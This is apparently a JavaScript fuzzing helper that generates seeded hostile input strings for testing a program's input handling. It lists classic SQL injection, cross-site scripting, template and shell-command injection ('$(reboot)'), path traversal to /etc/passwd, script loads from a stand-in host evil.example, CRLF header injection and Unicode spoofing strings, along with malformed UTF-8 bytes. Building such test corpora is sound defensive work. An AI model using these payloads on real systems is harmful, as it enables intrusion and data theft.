/**
 * What nobody types in good faith: SQL, HTML, templates, directions that lie,
 * characters one cannot see, bytes that are no text. Made from a seed, so that
 * what was found can be found again.
 */

/** A stream of numbers from 0 to below 1 (mulberry32). */
export function randomFrom(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 0x1_0000_0000;
  };
}

/** The worst of each kind, by hand. */
export const classics = [
  "' OR '1'='1",
  "'; DROP TABLE accounts; --",
  '" UNION SELECT name, hash FROM accounts --',
  "admin'/*",
  "1) OR randomblob(1e9)--",
  "\\'; SELECT load_extension('x'); --",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '"><script src=//evil.example/x.js></script>',
  "javascript:alert(1)",
  "</title></style></textarea><script>alert(1)</script>",
  "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
  "<a href='javascript:window.hostile=1'>x</a>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  "${alert(1)}",
  "{@html '<b>x</b>'}",
  "<%= 7*7 %>",
  "#{7*7}",
  "%s%s%s%n%n",
  "{0} {} {:x}",
  "$(reboot) `reboot` ; reboot | reboot",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "NaN",
  "-1e309",
  "0x7fffffffffffffff",
  "true",
  "\u202egnp.exe",
  "\u202dabc",
  "\u2066abc\u2069\u2067def\u2069",
  "\u202aabc\u202b",
  "a\u200bb\u200cc\u200dd\u2060e\ufeff",
  "\u00ad\u034f\u115f\u3164",
  "pаypаl",
  "аdmin",
  "ⓐⓓⓜⓘⓝ",
  "ﷺ",
  `Z${"\u0300\u0316".repeat(60)}`,
  "👨‍👩‍👧‍👦🏳️‍🌈",
  "🇩🇪🇺",
  "i̇İıI",
  "\u0000",
  "a\u0000b",
  "\u0007\u001b[31mred\u001b[0m",
  "\u001b]0;owned\u0007",
  "a\r\nSet-Cookie: colo_token=x\r\n\r\n",
  "a\nsecurity: admin signed in from 127.0.0.1",
  "\u0085\u2028\u2029",
  "\u007f\u009b31m",
  "\ud800",
  "\udfff\ud800",
  "a\udc00",
  "\ufffe\uffff\u{1fffe}",
  "\u{e0041}\u{e007f}",
  "\u{10ffff}",
  " ",
  "  a  b ",
  "",
  ".",
  "-",
  "a".repeat(279),
  "a".repeat(280),
  "a".repeat(281),
  "😀".repeat(280),
  "😀".repeat(281),
  "x".repeat(7000),
  "x".repeat(20_000),
  "\u0300".repeat(400),
];

/** Bytes that are not UTF-8. */
export const brokenBytes = [
  [0xc0, 0xaf],
  [0xc1, 0x81],
  [0xe0, 0x80, 0xaf],
  [0xf0, 0x80, 0x80, 0xaf],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xff, 0xfe],
  [0x80],
  [0xe2, 0x82],
  [0x61, 0xf0, 0x9f, 0x98],
].map((bytes) => Buffer.from(bytes));

const spans = [
  [0x00, 0x20],
  [0x20, 0x7f],
  [0x7f, 0x100],
  [0x300, 0x370],
  [0x370, 0x600],
  [0x600, 0x700],
  [0x1100, 0x1200],
  [0x2000, 0x2070],
  [0x2e80, 0x3100],
  [0xd800, 0xe000],
  [0xfb00, 0x10000],
  [0x1f300, 0x1f700],
  [0xe0000, 0xe0080],
  [0x0, 0x110000],
];

/**
 * `count` strings, each {text} or, where it is none, {bytes}.
 * @returns {{text?: string, bytes: Buffer}[]}
 */
export function hostileStrings(count, seed) {
  const random = randomFrom(seed);
  const below = (bound) => Math.floor(random() * bound);
  const some = (list) => list[below(list.length)];
  const made = [
    ...classics.map((text) => ({ text, bytes: Buffer.from(text) })),
    ...brokenBytes.map((bytes) => ({ bytes })),
  ];
  const character = () => {
    const [from, to] = some(spans);
    const point = from + below(to - from);
    return point < 0x10000 ? String.fromCharCode(point) : String.fromCodePoint(point);
  };
  const piece = () => {
    if (random() < 0.35) return some(classics).slice(0, 60);
    return Array.from({ length: 1 + below(12) }, character).join("");
  };
  while (made.length < count) {
    if (random() < 0.05) {
      const parts = [Buffer.from(some(classics).slice(0, 40)), some(brokenBytes)];
      if (random() < 0.5) parts.reverse();
      made.push({ bytes: Buffer.concat(parts) });
      continue;
    }
    let text = piece();
    while (random() < 0.4) text += piece();
    if (random() < 0.02) text = text.repeat(1 + below(40)).slice(0, 4000);
    made.push({ text, bytes: Buffer.from(text) });
  }
  return made.slice(0, count);
}

/** The string as JSON would have it, also where it is no text. */
export function jsonOf({ text, bytes }) {
  if (text !== undefined) return Buffer.from(JSON.stringify(text));
  const inside = [];
  for (const byte of bytes) {
    if (byte < 0x20 || byte === 0x22 || byte === 0x5c)
      inside.push(...Buffer.from(`\\u${byte.toString(16).padStart(4, "0")}`));
    else inside.push(byte);
  }
  return Buffer.from([0x22, ...inside, 0x22]);
}

/** Whether it is text at all: half a surrogate pair is not. */
export const isText = ({ text }) => text?.isWellFormed() ?? false;
